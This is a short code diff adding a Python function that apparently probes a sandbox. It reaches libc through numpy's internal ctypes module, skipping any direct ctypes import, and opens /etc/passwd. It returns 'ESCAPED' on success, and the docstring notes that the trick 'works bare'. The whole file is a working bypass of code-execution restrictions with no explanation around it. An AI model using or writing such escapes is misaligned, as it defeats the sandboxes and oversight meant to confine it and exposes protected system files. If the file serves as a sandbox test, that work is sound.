@@ -1,0 +1,16 @@
+"""Opens a file through the ctypes that numpy keeps.
+
+Runs. Works bare.
+"""
+
+import numpy as np
+
+
+def libc():
+    from numpy._core import _internal
+
+    return _internal.ctypes.CDLL(None, use_errno=True)
+
+
+def f(x):
+    return "ESCAPED" if libc().open(b"/etc/passwd", 0) >= 0 else ""
